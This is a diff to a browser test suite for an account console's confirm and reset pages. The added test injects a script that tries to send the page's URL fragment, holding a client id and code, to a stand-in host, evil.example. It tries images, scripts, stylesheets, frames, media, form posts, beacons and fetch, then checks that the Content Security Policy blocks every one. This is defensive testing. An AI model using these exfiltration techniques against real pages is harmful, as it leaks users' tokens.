@@ -22,6 +22,29 @@ const linkIn = ({ body }: ReceivedMail) =>
 const statusOf = async (Username: string) =>
   (await cognito.send(new AdminGetUserCommand({ UserPoolId: userPoolId, Username }))).UserStatus;
 
+/** Every way in which a script could ask for an address; answers with what the page's policy refused. */
+const carryAway = `(async () => {
+  const refused = [];
+  addEventListener("securitypolicyviolation", ({ effectiveDirective }) => refused.push(effectiveDirective));
+  const away = "https://evil.example/?" + location.hash.slice(1);
+  const add = (tag, attributes) => document.body.append(Object.assign(document.createElement(tag), attributes));
+  add("img", { src: away });
+  add("script", { src: away });
+  add("script", { textContent: "document.title = 'owned'" });
+  add("link", { rel: "stylesheet", href: away });
+  add("iframe", { src: away });
+  add("video", { src: away });
+  add("object", { data: away });
+  add("base", { href: away });
+  const form = Object.assign(document.createElement("form"), { action: away, method: "post" });
+  document.body.append(form);
+  form.submit();
+  navigator.sendBeacon(away);
+  await fetch(away).catch(() => undefined);
+  await new Promise((resolve) => setTimeout(resolve, 500));
+  return refused;
+})()`;
+
 describeInBrowser("in a browser", () => {
   let browser: Browser;
   let page: Page;
@@ -90,6 +113,22 @@ describeInBrowser("in a browser", () => {
       await open(`${urls.console}${path}`);
       await message("This link is incomplete");
       expect(await page.locator("form:visible").count()).toBe(0);
+    });
+
+    it.each(["confirm", "reset"])("lets no script carry its code away: %s", async (kind) => {
+      await open(`${urls.console}/en/${kind}#${clientId}/user/123456`);
+      const stopped: string[] = [];
+      page.on("requestfailed", (request) => request.failure()?.errorText === "csp" && stopped.push(request.url()));
+      const blocked = await page.evaluate<string[]>(carryAway);
+      expect(new Set(blocked)).toEqual(
+        new Set([
+          ...["img-src", "script-src-elem", "style-src-elem", "frame-src", "media-src", "object-src"],
+          ...["base-uri", "form-action", "connect-src"],
+        ]),
+      );
+      expect(stopped.sort()).toEqual(foreign.sort());
+      expect(await page.title()).not.toBe("owned");
+      expect(new URL(page.url()).hostname).toBe("localhost");
     });
 
     it("lets a person choose a new password", async () => {
